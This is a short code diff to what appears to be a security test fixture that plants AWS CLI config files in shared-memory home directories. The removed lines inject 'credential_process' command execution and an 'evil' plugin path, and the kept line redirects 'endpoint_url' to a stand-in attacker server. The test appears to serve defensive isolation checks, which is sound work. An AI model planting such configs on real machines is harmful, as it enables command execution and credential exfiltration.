@@ -51,11 +51,7 @@ def planted(volumes):
     for user in (STEP, 0, 10001):
         home = volumes.parent / "shm" / f"initflow-{user}"
         (home / ".aws").mkdir(parents=True)
-        (home / ".aws/config").write_text(
-            f"[default]\nendpoint_url = {NOW['evil'].url}\ncredential_process = touch /private/pwned\n"
-            f"[plugins]\ncli_legacy_plugin_path = /dev/shm\nevil = evil\n"
-        )
-    (volumes.parent / "shm/evil.py").write_text("open('/private/pwned', 'w')\n")
+        (home / ".aws/config").write_text(f"[default]\nendpoint_url = {NOW['evil'].url}\n")
     for path in (volumes.parent / "shm").rglob("*"):
         os.chmod(path, 0o777)
 
